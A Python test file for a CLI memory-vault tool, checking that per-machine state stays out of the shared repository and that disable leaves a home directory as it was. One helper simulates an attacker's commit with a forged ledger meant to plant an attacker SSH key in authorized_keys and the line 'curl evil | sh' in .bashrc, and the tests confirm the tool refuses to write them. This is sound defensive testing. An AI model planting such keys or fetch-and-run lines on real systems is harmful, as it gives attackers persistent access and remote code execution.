"""Issue 31.1-31.4: one line between what the team's repository carries and what one machine keeps.

Two people (two HOMEs whose paths differ, their clones in different folders) share one vault through
a real bare remote, each running the real CLI. What one machine knows about itself (where its clones
are, which hooks it installed, the enable ledger, its index, log and machine id) never lands in the
vault repository, and nothing a remote or a plain `git pull` brings is read as this machine's state.
"""

from __future__ import annotations

import base64
import hashlib
import json
import subprocess
import time
from pathlib import Path

from conftest import git, make_repo

from tests.helpers.homes import home_env, jacked, tree
from tests.helpers.state import state_dir
from tests.helpers.terminal import drive

REPOS = ("api", "web")


def _clones(home: Path, folder: str) -> dict[str, Path]:
    """This person's clones of github.com/acme/{api,web}, in `folder` under their HOME."""
    out = {}
    for name in REPOS:
        path = home / folder / name
        make_repo(path, f"git@github.com:acme/{name}.git" if folder == "code" else f"https://github.com/acme/{name}")
        git(path, "commit", "-q", "--allow-empty", "-m", "init")
        out[name] = path
    return out


def _json(result: subprocess.CompletedProcess) -> dict:
    assert result.returncode == 0, result.stdout + result.stderr
    return json.loads(result.stdout)


def _steps(result: subprocess.CompletedProcess) -> dict[str, dict]:
    return {step["step"]: step for step in _json(result)["steps"]}


def _hooked(repo: Path) -> bool:
    hook = repo / ".git" / "hooks" / "post-merge"
    return hook.is_file() and "jacked-vault post-merge hook" in hook.read_text()


def _committed_paths(vault: Path) -> list[str]:
    return git(vault, "ls-tree", "-r", "--name-only", "HEAD").split()


def test_group_suggest_root_is_this_machines_never_the_vaults(tmp_path):
    """31.1: `--root` folders are remembered in this machine's config, never written to vault.json."""
    home = tmp_path / "home"
    clones = _clones(home, "elsewhere/clients")
    assert _json(jacked(home, "memory", "init", "--no-scan", "--json"))["created"] is True
    vault = home / "jacked-vault"
    found = _json(jacked(home, "memory", "group", "suggest", "--root", str(home / "elsewhere"), "--yes", "--json"))
    assert found["repos_found"] == 2 and found["roots_source"] == "--root", found
    for shared in (json.loads((vault / "vault.json").read_text()), json.loads(git(vault, "show", "HEAD:vault.json"))):
        assert "roots" not in shared and sorted(shared["groups"]["acme"]["repos"]) == [
            "github.com/acme/api",
            "github.com/acme/web",
        ]
    assert str(home) not in git(vault, "log", "-p", "--format=")  # no commit ever held this machine's paths
    machine = json.loads((home / ".config" / "jacked" / "config.json").read_text())
    assert machine["roots"] == [str(home / "elsewhere")]
    # the remembered root is what the next scan and --git-all look in
    installed = _json(jacked(home, "memory", "hooks", "install", "--git-all", "acme", "--json"))
    assert sorted(item["repo"] for item in installed["git"]) == [str(p) for p in clones.values()]


def test_enable_looks_where_people_keep_clones_and_says_where(tmp_path):
    """31.2: not only ~/Github; the text names the folders it looked in."""
    home = tmp_path / "home"
    _clones(home, "src")
    result = jacked(home, "memory", "enable", "--yes")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "looked in ~/src: 2 repos" in result.stdout, result.stdout
    steps = _steps(jacked(home, "memory", "enable", "--yes", "--json"))
    assert steps["post-merge"]["outcome"] == "unchanged", steps["post-merge"]  # hooked by the first run


def test_enable_with_no_clone_folder_says_where_it_looked(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    result = jacked(home, "memory", "enable", "--yes")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "none of the usual folders for clones (~/code, ~/src, ~/Github, ~/projects, …) is on" in result.stdout
    assert "--root DIR" in result.stdout


def _merge_on_main(home: Path, repo: Path) -> None:
    """A real `git merge --no-ff` of a feature branch into main, run as this person (their HOME)."""
    env = home_env(home)
    for args in (
        ("checkout", "-q", "-b", "feature"),
        ("commit", "-q", "--allow-empty", "-m", "Add the rate limiter"),
        ("checkout", "-q", "main"),
        ("merge", "-q", "--no-ff", "-m", "Merge pull request #7 from acme/feature", "feature"),
    ):
        subprocess.run(["git", "-C", str(repo), *args], env=env, check=True, capture_output=True)


def _captured(vault: Path) -> list[str]:
    """The candidate decisions merge capture wrote in this vault (waited for: it runs detached)."""
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        found = sorted(p.name for p in vault.glob("groups/*/decision/*.md"))
        if found:
            return found
        time.sleep(0.1)
    return []


def test_two_homes_join_one_remote_each_hooks_its_own_clones_and_disable_leaves_each_as_it_was(tmp_path):
    """31.1-31.3, the issue's done-means: the second machine's clones live elsewhere under another
    HOME; each gets post-merge capture in its own clones (a real merge there becomes a candidate
    in its own vault), and `disable` on either leaves its HOME (all but the vault and the merged
    repo's history) and its clones' hooks exactly as they were."""
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(remote)], check=True)
    laptop, desktop = tmp_path / "laptop-home", tmp_path / "desk" / "home"
    laptop_clones, desktop_clones = _clones(laptop, "code"), _clones(desktop, "work/acme")
    merged = desktop_clones["api"]
    skip = ("jacked-vault", "work/acme/api")
    before = {laptop: tree(laptop), desktop: tree(desktop, skip), merged: tree(merged / ".git" / "hooks")}

    steps = _steps(jacked(laptop, "memory", "enable", "--yes", "--json"))
    assert steps["groups"]["outcome"] == "done" and all(_hooked(p) for p in laptop_clones.values())
    assert _json(jacked(laptop, "memory", "remote", "set", f"file://{remote}", "--json"))["ok"]
    assert _json(jacked(laptop, "memory", "push", "--json"))["ok"]

    join = ("enable", "--yes", "--from", f"file://{remote}", "--root", str(desktop / "work"), "--json")
    steps = _steps(jacked(desktop, "memory", *join))
    assert steps["vault"]["outcome"] == "done" and steps["roots"]["outcome"] == "done", steps
    assert steps["post-merge"]["outcome"] == "done" and "2 of 2" in steps["post-merge"]["detail"], steps["post-merge"]
    assert all(_hooked(p) for p in desktop_clones.values())
    assert "roots" not in json.loads((desktop / "jacked-vault" / "vault.json").read_text())
    _merge_on_main(desktop, merged)
    assert _captured(desktop / "jacked-vault"), "the merge in this machine's clone was not captured"
    laptop_hooks = {name: (p / ".git" / "hooks" / "post-merge").read_bytes() for name, p in laptop_clones.items()}

    steps = _steps(jacked(desktop, "memory", "disable", "--json"))
    assert steps["post-merge"]["outcome"] == "removed", steps["post-merge"]
    assert tree(desktop, skip) == before[desktop] and tree(merged / ".git" / "hooks") == before[merged]
    assert {name: (p / ".git" / "hooks" / "post-merge").read_bytes() for name, p in laptop_clones.items()} == (
        laptop_hooks
    )  # the other machine's clones were never touched

    assert _steps(jacked(laptop, "memory", "disable", "--json"))["post-merge"]["outcome"] == "removed"
    assert tree(laptop) == before[laptop]


def test_disable_removes_a_hook_hooks_install_put_outside_every_root(tmp_path):
    """31.3: the record of installs follows a hook wherever it went; merges capture nothing after."""
    home = tmp_path / "home"
    repo = tmp_path / "somewhere" / "else" / "api"
    make_repo(repo, "git@github.com:acme/api.git")
    git(repo, "commit", "-q", "--allow-empty", "-m", "init")
    home.mkdir()
    assert _json(jacked(home, "memory", "init", "--no-scan", "--json"))["created"]
    before = tree(repo.parent)
    assert _json(jacked(home, "memory", "hooks", "install", "--git", str(repo), "--json"))["ok"]
    assert _hooked(repo)
    steps = _steps(jacked(home, "memory", "disable", "--json"))
    assert steps["post-merge"]["outcome"] == "removed" and not _hooked(repo)
    assert tree(repo.parent) == before
    assert json.loads((state_dir(home / "jacked-vault") / "installed.json").read_text())["post_merge"] == []


def _planted_ledger(home: Path) -> bytes:
    """What an attacker's commit puts at `.jacked/switch.json`: put back "the bytes before enable"
    of ~/.ssh/authorized_keys (absent now: the hash of nothing matches) and ~/.bashrc."""
    bashrc = hashlib.sha256((home / ".bashrc").read_bytes()).hexdigest()

    def entry(before: bytes, after: str | None) -> dict:
        kept = base64.b64encode(before).decode()
        return {"restore": True, "existed": True, "backups": [], "before": kept, "after": after}

    files = {
        str(home / ".ssh" / "authorized_keys"): entry(b"ssh-ed25519 AAAAattacker\n", None),
        str(home / ".bashrc"): entry(b"curl evil | sh\n", bashrc),
    }
    return (json.dumps({"version": 1, "files": files, "dirs": [], "repos": []}) + "\n").encode()


def test_a_ledger_a_plain_git_pull_brings_is_never_what_disable_restores(tmp_path):
    """31.4: sync refuses `.jacked/` arrivals, but a person's own `git pull` in the vault checks them
    out over the ignored folder. Nothing reads machine state from the working tree any more, and
    disable only ever writes the harness files it manages."""
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(remote)], check=True)
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    steps = _steps(jacked(home, "memory", "enable", "--yes", "--json"))
    assert steps["claude"]["outcome"] == "done"
    vault = home / "jacked-vault"
    assert _json(jacked(home, "memory", "remote", "set", f"file://{remote}", "--json"))["ok"]
    assert _json(jacked(home, "memory", "push", "--json"))["ok"]
    machine_id = (state_dir(vault) / "machine-id").read_text()

    attacker = tmp_path / "attacker"
    subprocess.run(["git", "clone", "-q", str(remote), str(attacker)], check=True)
    (attacker / ".jacked").mkdir()
    (attacker / ".jacked" / "switch.json").write_bytes(_planted_ledger(home))
    (attacker / ".jacked" / "machine-id").write_text("m-0000deadbeef\n")
    (attacker / ".jacked" / "vault.local.json").write_text(json.dumps({"settings": {"writes": {"agents": "off"}}}))
    git(attacker, "add", "-f", ".jacked")
    git(attacker, "commit", "-qm", "memory: tidy")
    git(attacker, "push", "-q", "origin", "main")
    git(vault, "pull", "-q", "--no-rebase", "origin", "main")  # the person's own pull, not jacked's sync
    assert (vault / ".jacked" / "switch.json").is_file()

    bashrc = (home / ".bashrc").read_bytes()
    steps = _steps(jacked(home, "memory", "disable", "--json"))
    assert not (home / ".ssh").exists() and (home / ".bashrc").read_bytes() == bashrc
    assert steps["claude"]["outcome"] in ("removed", "unchanged")
    assert not (home / ".claude" / "settings.json").exists()  # enable made it: undone
    assert (state_dir(vault) / "machine-id").read_text() == machine_id
    doctor = json.loads(jacked(home, "memory", "doctor", "--json").stdout)  # not ok: .jacked/ is committed
    assert "LEGACY_STATE" in {w["code"] for w in doctor["config_warnings"]}, doctor["config_warnings"]
    assert {"vault:.jacked/machine-id", "vault:.jacked/switch.json"} <= set(doctor["outside_layout"])


def test_disable_refuses_a_ledger_entry_for_a_file_it_does_not_manage(tmp_path):
    """31.4, defence in depth: even this machine's own ledger cannot make disable write ~/.bashrc."""
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    assert _steps(jacked(home, "memory", "enable", "--yes", "--json"))["claude"]["outcome"] == "done"
    ledger = state_dir(home / "jacked-vault") / "switch.json"
    data = json.loads(ledger.read_text())
    data["files"].update(json.loads(_planted_ledger(home))["files"])
    ledger.write_text(json.dumps(data))
    bashrc = (home / ".bashrc").read_bytes()
    steps = _steps(jacked(home, "memory", "disable", "--json"))
    assert not (home / ".ssh").exists() and (home / ".bashrc").read_bytes() == bashrc
    refused = [line for line in jacked(home, "memory", "disable").stdout.splitlines() if "refused" in line]
    assert steps["restore"]["outcome"] in ("restored", "unchanged") and refused == [], refused  # the ledger is gone now


def _vault(tmp_path: Path) -> tuple[Path, Path]:
    """(HOME, its vault): made with `init --no-scan`, nothing in it yet."""
    home = tmp_path / "home"
    home.mkdir()
    assert _json(jacked(home, "memory", "init", "--no-scan", "--json"))["created"]
    return home, home / "jacked-vault"


def _add(home: Path, title: str) -> None:
    add = ("memory", "add", "--group", "g", "--kind", "fact", "--title", title, "--body", "Data.", "--json")
    assert _json(jacked(home, *add))["commit"]


def test_machine_state_lives_where_no_checkout_can_write(tmp_path):
    """The index, log, lock, machine id and sync state are in `.git/jacked/`; the working tree holds
    only what the team shares (nothing ignored, nothing untracked)."""
    home, vault = _vault(tmp_path)
    _add(home, "Kept here")
    assert _json(jacked(home, "memory", "search", "kept", "--json"))["results"]
    assert git(vault, "status", "--porcelain", "--ignored") == ""
    assert {"index.sqlite", "machine-id", "lock"} <= {p.name for p in state_dir(vault).iterdir()}
    assert state_dir(vault) == vault / ".git" / "jacked"
    assert not any(p.startswith(".jacked") for p in _committed_paths(vault))


def _older_layout(vault: Path) -> None:
    """What an older version left: its state in `<vault>/.jacked/` (the same files, moved)."""
    (state_dir(vault)).rename(vault / ".jacked")


def test_state_an_older_version_kept_is_adopted_once_but_never_the_index(tmp_path):
    home, vault = _vault(tmp_path)
    _add(home, "Old note")
    machine_id = (state_dir(vault) / "machine-id").read_text()
    (state_dir(vault) / "vault.local.json").write_text(json.dumps({"settings": {"writes": {"agents": "off"}}}))
    _older_layout(vault)
    (vault / ".jacked" / "index.sqlite").write_bytes(b"not the index this machine would build")

    assert _json(jacked(home, "memory", "search", "old", "--json"))["results"][0]["title"] == "Old note"
    assert (state_dir(vault) / "machine-id").read_text() == machine_id  # its audit chain goes on
    assert json.loads((state_dir(vault) / "vault.local.json").read_text())["settings"]["writes"]["agents"] == "off"
    assert (state_dir(vault) / "index.sqlite").read_bytes() != b"not the index this machine would build"
    assert (vault / ".jacked").is_dir()  # left where it was, for the person to delete
    doctor = _json(jacked(home, "memory", "doctor", "--json"))
    assert "LEGACY_STATE" in {w["code"] for w in doctor["config_warnings"]}, doctor["config_warnings"]


def test_a_legacy_file_git_tracks_is_never_adopted(tmp_path):
    """A `.jacked/machine-id` a commit brought (git tracks it) is not this machine's: not adopted."""
    home, vault = _vault(tmp_path)
    _older_layout(vault)
    (vault / ".jacked" / "machine-id").write_text("m-0000deadbeef\n")
    git(vault, "add", "-f", ".jacked/machine-id")
    git(vault, "commit", "-qm", "planted")
    _add(home, "Mine")
    assert (state_dir(vault) / "machine-id").read_text().strip() != "m-0000deadbeef"
    assert "audit/m-0000deadbeef/" not in git(vault, "show", "--name-only", "--format=", "HEAD")


def test_enable_offers_signed_reviews_on_a_terminal_and_disable_puts_it_back(tmp_path):
    """31.7's one step for a team, offered by `enable` (asked, never done by --yes alone); what it
    changed in HOME (the machine config, the allowed-signers file) is put back by `disable`."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "me@example.com", "-f", str(key)], check=True)
    before = tree(home)
    quiet = _steps(jacked(home, "memory", "enable", "--yes", "--json"))
    assert quiet["signing"]["outcome"] == "offered" and not (home / ".config" / "jacked").exists()

    code, out, shown = drive(["memory", "enable"], [b"\n", b"y\n"], env=home_env(home), cwd=home)
    assert code == 0, out + shown.decode(errors="replace")
    assert b"sign your reviews with your ssh key" in shown
    signing = [line for line in out.splitlines() if line.startswith("signing")]
    assert signing and signing[0].split()[1] == "done", out
    machine = json.loads((home / ".config" / "jacked" / "config.json").read_text())
    signers = Path(machine["settings"]["review"]["allowed_signers"])
    assert "me@example.com" in signers.read_text()

    assert _json(jacked(home, "memory", "disable", "--json"))["ok"]
    assert tree(home) == before
